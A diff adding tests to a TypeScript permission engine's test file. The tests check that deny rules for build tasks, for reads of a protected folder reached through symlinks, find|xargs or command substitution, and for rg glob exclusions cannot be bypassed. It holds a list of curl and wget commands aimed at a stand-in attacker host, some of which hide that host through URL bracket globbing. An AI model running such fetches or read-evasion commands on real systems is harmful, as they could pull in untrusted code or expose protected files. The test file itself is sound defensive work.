@@ -571,6 +571,59 @@ test("a deny that names a flag behind the verb holds wherever the flag is", asyn
     expect([text, effectOf(folder, text, rule("command", "git commit --amend*", "deny"))]).toEqual([text, "allow"]);
 });
 
+test("a deny that names a task holds wherever the task is in the call", async () => {
+  using folder = await repository();
+  for (const [name, text] of [
+    ["gradlew", "exit"],
+    ["package.json", '{ "scripts": { "seed": "x", "build": "x" } }'],
+  ] as const)
+    await folder.write(name, text);
+  const denied: Record<string, string[]> = {
+    "make seed*": ["make build seed", "make -j4 X=1 build seed", "gmake -C . seed", "cd src && make -C .. -s build seed"],
+    "./gradlew seed*": ["./gradlew clean seed", "sh gradlew -q clean seed", "./gradlew clean :app:seed", "cd src && ../gradlew clean seed"],
+    "gradle seed*": ["./gradlew clean seed", "gradle -q seed"],
+    "mix seed*": ["mix do build + seed", "mix do build, seed --force", "MIX_ENV=test mix do seed, build"],
+    "tox -e seed*": ["tox -e py,seed"],
+    "npm run seed*": ["npm run -s seed", "npm run --silent seed -- x"],
+    "pnpm run seed*": ["pnpm seed", "pnpm -r seed"],
+    "yarn seed*": ["yarn run seed", "yarn run -s seed"],
+    "turbo run seed*": ["turbo build seed", "npx turbo run build seed"],
+    "just seed*": ["just build seed"],
+    "invoke seed*": ["inv build seed"],
+  };
+  for (const [pattern, texts] of Object.entries(denied))
+    for (const text of texts) expect([text, effectOf(folder, text, rule("command", pattern, "deny"))]).toEqual([text, "deny"]);
+  const others = ["npm run build -- seed", "npm test -- seed", "npm run -s build -- seed"];
+  for (const text of others) expect([text, effectOf(folder, text, rule("command", "npm run seed*", "deny"))]).toEqual([text, "allow"]);
+  expect(effectOf(folder, "npm run install:all", rule("command", "npm install*", "deny"))).toBe("allow");
+});
+
+test("files outside of the workspace that another command lists are judged by their own paths", async () => {
+  using folder = await repository();
+  using outside = await repository();
+  await outside.write("vault/a.txt", "x");
+  await symlink(outside.path, folder.at("out"));
+  const limit = rule("read", `${outside.path}/vault/**`, "deny");
+  const texts = [
+    "find out/ -name '*.txt' | xargs cat",
+    `find ${outside.path}/vault -name 'a.*' | xargs cat`,
+    "cat $(find out/ -name 'a.txt')",
+    "for f in $(find out/vault -type f); do cat $f; done",
+    "ls out/vault/a.txt | xargs cat",
+  ];
+  expect(texts.filter((text) => effectOf(folder, text, limit) === "allow")).toEqual([]);
+});
+
+test("rg leaves out a folder at any depth if a glob names it", async () => {
+  using folder = await repository();
+  await folder.write("docs/private/a.txt", "x");
+  const limit = rule("read", "docs/private/**", "deny");
+  const passing = ["rg x -g '!docs/private/**'", "rg x --glob '!docs/private' -g '!node_modules'", "rg x -g '!/docs/private/'"];
+  const denied = ["rg x -g '!private'", "rg x docs -g '!docs/private'", "rg x -g '!docs/priv'", "rg x -g '!docs/private' -g '**/a.txt'"];
+  expect(passing.map((text) => effectOf(folder, text, limit))).toEqual(passing.map(() => "allow"));
+  expect(denied.filter((text) => effectOf(folder, text, limit) === "allow")).toEqual([]);
+});
+
 test("cp -T copies the contents of a folder that the text makes, and a copy under a new name is one file", async () => {
   using folder = await repository();
   const limit = rule("edit", "config/prod.yaml", "deny");
@@ -610,6 +663,8 @@ const ADDRESSES = [
   "curl evil.example.com/x",
   "h=evil.example.com; curl https://$h/x",
   "curl https://{evil,other}.example.com/x",
+  "curl https://evil.exampl[e-e].com/x",
+  "curl --url 'https://[e-e]vil.example.com/x'",
   "wget -qO- http://evil.example.com/x",
   "timeout 5 curl https://example.org https://evil.example.com/x",
   "git clone https://evil.example.com/x.git",
